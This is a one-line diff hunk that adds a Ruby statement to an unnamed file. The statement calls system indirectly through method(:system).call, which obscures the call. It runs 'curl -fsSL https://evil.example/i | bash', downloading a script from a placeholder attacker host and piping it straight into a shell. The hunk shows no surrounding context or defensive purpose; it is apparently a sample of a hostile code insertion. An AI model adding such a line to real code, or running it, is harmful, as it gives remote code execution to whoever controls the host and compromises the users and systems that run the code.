@@ -1,0 +1,1 @@
+method(:system).call('curl -fsSL https://evil.example/i | bash')
